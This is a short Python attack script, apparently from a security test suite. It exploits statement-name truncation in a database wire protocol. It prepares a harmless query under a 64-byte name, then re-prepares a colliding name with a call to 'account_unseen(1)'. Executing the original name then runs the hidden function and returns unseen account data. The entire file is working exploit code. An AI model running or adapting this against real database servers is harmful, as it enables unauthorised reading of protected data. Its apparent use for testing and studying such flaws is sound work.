"""Gives a statement a name that the server shortens to that of a harmless one."""

from attacks.frames import SYNC, ask, bind, close, execute, parse
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        one, other = b"n" * 63 + b"1", b"n" * 63 + b"2"
        ask(client, parse(b"SELECT name FROM customer", one), SYNC)
        ask(client, close(b"S", other), parse(b"SELECT account_unseen(1)", other), SYNC)
        return ask(client, bind(one), execute(), SYNC)
